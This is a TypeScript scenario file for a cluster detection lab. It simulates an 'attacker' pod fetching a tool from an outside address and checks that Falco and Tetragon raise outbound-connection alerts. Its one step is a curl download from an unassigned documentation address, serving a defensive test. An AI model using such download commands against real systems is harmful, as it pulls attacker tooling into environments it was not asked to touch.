import { defineScenario, type Query } from "../model/scenario-schema";
import outboundAlert from "../queries/outbound.falco.json";
import outboundMatch from "../queries/outbound.tetragon.json";

export const outboundDownload = defineScenario({
  id: "outbound-download",
  title: "A tool is fetched from outside the cluster",
  stage: "validation",
  techniques: ["T1071"],
  simulates: ["T1105"],
  danger: "simulated",
  proves: "A tool that connects out of the cluster is seen, whether the network lets it or not.",
  pods: ["attacker"],
  steps: [
    {
      do: "exec",
      pod: "attacker",
      command: ["curl", "--silent", "--max-time", "3", "http://192.0.2.10/tool"],
      exitCodes: [0, 6, 7, 28],
      why: "An address that belongs to nobody (RFC 5737).",
    },
  ],

  expectations: [
    {
      tool: "falco",
      what: "alert: connection out of the cluster",
      query: outboundAlert as Query,
      fields: { "threat.technique.id": "T1071", "threat.tactic.id": "TA0011", "event.severity": 2 },
    },
    {
      tool: "tetragon",
      what: "policy match: connection",
      query: outboundMatch as Query,
      fields: { "threat.technique.id": "T1071", "event.severity": 4 },
    },
  ],
  chains: [
    {
      rule: "two-sensors",
      pod: "attacker",
      technique: "T1071",
      takes: ["falco: Outbound connection to a non-cluster address", "tetragon: suspicious-egress"],
    },
  ],
});
